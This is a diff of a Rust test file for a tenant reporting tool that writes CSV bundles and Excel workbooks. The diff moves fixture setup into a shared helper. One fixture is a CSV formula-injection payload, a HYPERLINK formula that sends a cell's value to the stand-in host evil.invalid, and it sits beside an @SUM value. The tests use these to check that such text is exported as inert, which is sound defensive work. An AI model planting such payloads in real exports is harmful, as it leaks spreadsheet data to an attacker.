@@ -120,17 +120,27 @@ fn the_workbook_has_every_sheet_and_the_scorecard_shows_kpi_summarys_values() {
     );
 }
 
-#[test]
-fn a_title_that_looks_like_a_formula_is_written_as_text() {
-    let dir = TempDir::new().unwrap();
-    let data = dir.path().join("data");
+/// A `data/` folder with tenant `a` (Alpha) and its devices export of `devices` (rows after the
+/// header `snapshot_date,tenant_id,device_id,hostname,device_class,last_seen_utc`).
+fn alpha_exports(dir: &Path, devices: &str) -> std::path::PathBuf {
+    let data = dir.join("data");
     std::fs::create_dir_all(&data).unwrap();
     std::fs::write(data.join("tenants.csv"), "tenant_id,tenant_name\na,Alpha\n").unwrap();
     std::fs::write(
         data.join("devices.csv"),
-        "snapshot_date,tenant_id,device_id,hostname,device_class,last_seen_utc\n2026-10-31,a,d1,PC1,workstation,2026-10-31T01:00:00Z\n",
+        format!("snapshot_date,tenant_id,device_id,hostname,device_class,last_seen_utc\n{devices}"),
     )
     .unwrap();
+    data
+}
+
+#[test]
+fn a_title_that_looks_like_a_formula_is_written_as_text() {
+    let dir = TempDir::new().unwrap();
+    let data = alpha_exports(
+        dir.path(),
+        "2026-10-31,a,d1,PC1,workstation,2026-10-31T01:00:00Z\n",
+    );
     std::fs::write(
         data.join("changes.csv"),
         "change_id,tenant_id,title,change_type,risk,created_utc,actual_end_utc,outcome\n\
@@ -188,16 +198,11 @@ fn a_tenants_workbook_holds_no_other_tenants_ids_or_names() {
 #[test]
 fn text_that_looks_like_a_formula_is_inert_in_every_csv_of_a_bundle_and_of_query() {
     let dir = TempDir::new().unwrap();
-    let data = dir.path().join("data");
-    std::fs::create_dir_all(&data).unwrap();
-    std::fs::write(data.join("tenants.csv"), "tenant_id,tenant_name\na,Alpha\n").unwrap();
-    std::fs::write(
-        data.join("devices.csv"),
-        "snapshot_date,tenant_id,device_id,hostname,device_class,last_seen_utc\n\
-         2026-10-31,a,d1,\"=HYPERLINK(\"\"http://evil.invalid/?x=\"\"&A1,\"\"click\"\")\",workstation,2026-10-31T01:00:00Z\n\
+    let data = alpha_exports(
+        dir.path(),
+        "2026-10-31,a,d1,\"=HYPERLINK(\"\"http://evil.invalid/?x=\"\"&A1,\"\"click\"\")\",workstation,2026-10-31T01:00:00Z\n\
          2026-10-31,a,d2,@SUM(1+1),workstation,2026-10-31T01:00:00Z\n",
-    )
-    .unwrap();
+    );
     std::fs::write(
         data.join("changes.csv"),
         "change_id,tenant_id,title,change_type,risk,created_utc,actual_end_utc,outcome\n\
@@ -248,15 +253,10 @@ fn text_that_looks_like_a_formula_is_inert_in_every_csv_of_a_bundle_and_of_query
 #[test]
 fn a_value_no_format_holds_is_written_safely_and_a_failed_pack_keeps_the_bundle_already_issued() {
     let dir = TempDir::new().unwrap();
-    let data = dir.path().join("data");
-    std::fs::create_dir_all(&data).unwrap();
-    std::fs::write(data.join("tenants.csv"), "tenant_id,tenant_name\na,Alpha\n").unwrap();
-    std::fs::write(
-        data.join("devices.csv"),
-        "snapshot_date,tenant_id,device_id,hostname,device_class,last_seen_utc\n\
-         2026-10-31,a,d1,PC1,workstation,2026-10-31T01:00:00Z\n",
-    )
-    .unwrap();
+    let data = alpha_exports(
+        dir.path(),
+        "2026-10-31,a,d1,PC1,workstation,2026-10-31T01:00:00Z\n",
+    );
     // Windows' zero date as a release date, and a change title longer than an Excel cell holds.
     std::fs::write(
         data.join("patch_status.csv"),
